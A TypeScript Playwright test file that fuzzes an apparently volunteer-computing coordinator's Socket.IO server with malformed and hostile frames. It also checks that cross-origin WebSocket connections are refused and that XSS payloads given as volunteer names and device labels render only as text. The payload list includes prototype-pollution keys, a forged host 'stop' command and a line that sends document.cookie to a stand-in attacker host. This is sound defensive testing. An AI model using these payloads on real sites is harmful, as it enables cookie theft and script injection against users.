// Strangers on the wire: whatever they send, the process and the others go on.
import { join, logLine, openHost, startRun, statusOf } from "./support/pages.ts";
import { expect, test, type Page } from "./support/test.ts";

test.use({
  run: { dataset: "shapes", settings: { rounds: 1 } },
  expectedErrors: /WebSocket/,
});

/** Engine.IO and Socket.IO packets, in text. */
const broken = [
  ...["", "4", "42", "42[", "42[]", "42{}", "42null", '42"hello"', "4 2", "9", "\u0000"],
  ...['42["hello"', '42["hello",', '420["hello"]', '421["hello",null]', '422["hello",[]]'],
  ...['42["hello",{"protocol":"one"}]', '42["hello",{"__proto__":{"role":"host"}}]'],
  ...['42["__proto__",{}]', '42["constructor",{}]', '42["toString"]', '42["disconnect"]'],
  ...['42["upload-chunk",{}]', '42["host",{"command":"stop"}]', "42[1,2,3]", "42[null]"],
  ...["40/admin,", "41", "44", '451-["upload-chunk",{"_placeholder":true,"num":7}]'],
  ...['45999999-["hello"]', "45-", '46-1["x"]', "43", "4399[]", '4399["x"]', "40{}", "40["],
  `42["hello",${"[".repeat(20_000)}`,
  `42["${"x".repeat(100_000)}"]`,
  `42["hello",{"name":"${"x".repeat(600_000)}"}]`,
];

/** What is sent before: nothing, or a connection to the namespace. */
const openings = [[], ["40"]];

test("broken frames end a connection at most, never the coordinator", async ({
  page: host,
  coordinator,
  openTab,
}) => {
  const { links } = coordinator;
  await openHost(host, links);
  const tab = await openTab();
  await join(tab, links);
  const stranger = await openTab();
  await stranger.goto(links.join);
  for (const opening of openings) {
    for (const frame of broken) await sendTo(stranger, [...opening, frame]);
  }
  await sendTo(stranger, ["40", ...broken]);
  await sendBytes(stranger);
  expect(coordinator.isAlive()).toBe(true);

  await test.step("the others have noticed nothing", async () => {
    await startRun(host, 1);
    await expect(logLine(host, "All rounds are done.")).toBeVisible({ timeout: 120_000 });
    await expect(statusOf(tab)).toHaveText(/^The run is over after 1 round\./);
    const joined = (await coordinator.log()).filter(({ type }) => type === "joined");
    expect(joined).toHaveLength(1);
  });
});

test("a page of another site cannot open a connection", async ({ page, coordinator }) => {
  const { host, port } = new URL(coordinator.links.origin);
  await page.goto(`http://127.0.0.1:${port}/`); // the same machine, another origin
  const outcome = await page.evaluate(
    (address) =>
      new Promise<string>((resolve) => {
        const socket = new WebSocket(`ws://${address}/socket.io/?EIO=4&transport=websocket`);
        socket.onopen = () => resolve("open");
        socket.onerror = () => resolve("refused");
      }),
    host,
  );
  expect(outcome).toBe("refused");
});

/** What would run if a name, a device or a reason became code anywhere. */
const scripts = [
  ...["<img src=x onerror=x()>", "<svg onload=x()>", "<script>x()</script>", "<b id=x>", "{{x()}}"],
  ...["javascript:x()", "'-x()-'", '"onload="x()', "${x()}", "</title><script>", "&lt;script&gt;"],
  ...["<iframe src=//x>", "<a href=javascript:x()>", "\u202e<img src=x>", "=HYPERLINK(x)", "<!--"],
];
const longer = [
  '<img src=x onerror="document.title=1">',
  '"><svg/onload=fetch("//evil.example/"+document.cookie)>',
  '<iframe srcdoc="<script>parent.document.title=1</script>"></iframe>',
];

test.describe("with many places", () => {
  test.use({
    run: { dataset: "shapes", settings: { rounds: 1, clients: 60, samplesPerClient: 32 } },
  });

  test("what strangers call themselves and their devices is text on every page, never code", async ({
    page: host,
    coordinator,
    openTab,
    context,
  }) => {
    const dialogs: string[] = [];
    context.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await context.addInitScript(() => {
      const seen: string[] = [];
      Object.assign(window, { seen, x: () => seen.push("ran") });
      addEventListener("securitypolicyviolation", (event) =>
        seen.push((event as Event & { violatedDirective: string }).violatedDirective),
      );
    });
    const { links } = coordinator;
    await openHost(host, links);
    const [tab, show, stranger] = [await openTab(), await openTab(), await openTab()];
    await join(tab, links);
    await show.goto(links.show);
    await stranger.goto(links.join);
    const names = Array.from({ length: 50 }, (_, i) => scripts[i % scripts.length]!);
    await joinAs(stranger, names, longer);
    await expect(host.getByText("51 in", { exact: true })).toBeVisible();
    await expect(host.getByText("<img src=x onerror=x()>", { exact: true })).toBeVisible();
    await expect(host.getByText("<script>x()</script>", { exact: true })).toBeVisible();
    for (const page of [host, tab, show]) {
      const found = await page.evaluate(() => ({
        seen: (window as unknown as { seen: string[] }).seen,
        planted: document.querySelectorAll("img[src=x], b#x, iframe, [onload], [onerror]").length,
      }));
      expect(found).toEqual({ seen: [], planted: 0 });
    }
    expect(dialogs).toEqual([]);
  });
});

/** Volunteers with these names, each with a device that calls itself one of `labels`; they stay. */
async function joinAs(
  page: Page,
  names: readonly string[],
  labels: readonly string[],
): Promise<void> {
  await page.evaluate(
    async ([all, devices]) => {
      const { protocol } = (await (await fetch("/api/room")).json()) as { protocol: number };
      const address = `${location.origin.replace("http", "ws")}/socket.io/?EIO=4&transport=websocket`;
      const joinOne = (name: string, label: string) =>
        new Promise<void>((resolve, reject) => {
          const socket = new WebSocket(address);
          const device = { kind: "cpu", label, executor: label.slice(0, 40), note: label };
          const hello = { protocol, role: "volunteer", room: null, name, device };
          socket.onopen = () => socket.send("40");
          socket.onclose = () => reject(new Error(`${name} was not let in`));
          socket.onmessage = ({ data }: MessageEvent<string>) => {
            if (data === "2") socket.send("3");
            else if (data.startsWith("40")) socket.send(`420["hello",${JSON.stringify(hello)}]`);
            else if (data.startsWith('430[{"ok":true')) resolve();
          };
        });
      for (const [i, name] of all.entries()) await joinOne(name, devices[i % devices.length]!);
    },
    [names, labels] as const,
  );
}

/** Sends frames on a new connection; settles when it has ended, by whichever side. */
async function sendTo(page: Page, frames: readonly string[]): Promise<void> {
  await page.evaluate(
    (texts) =>
      new Promise<void>((resolve) => {
        const address = location.origin.replace("http", "ws");
        const socket = new WebSocket(`${address}/socket.io/?EIO=4&transport=websocket`);
        socket.onclose = () => resolve();
        socket.onopen = () => {
          for (const text of texts) socket.send(text);
          socket.close(); // is answered after all frames are read
        };
      }),
    frames,
  );
}

/** Bytes where text is expected, and attachments that nobody has announced. */
async function sendBytes(page: Page): Promise<void> {
  await page.evaluate(
    () =>
      new Promise<void>((resolve) => {
        const address = location.origin.replace("http", "ws");
        const socket = new WebSocket(`${address}/socket.io/?EIO=4&transport=websocket`);
        socket.onclose = () => resolve();
        socket.onopen = () => {
          socket.send("40");
          socket.send('451-["upload-chunk",{"updateId":{"_placeholder":true,"num":0}}]');
          for (const size of [0, 1, 300_000]) socket.send(new Uint8Array(size));
          socket.close();
        };
      }),
  );
}
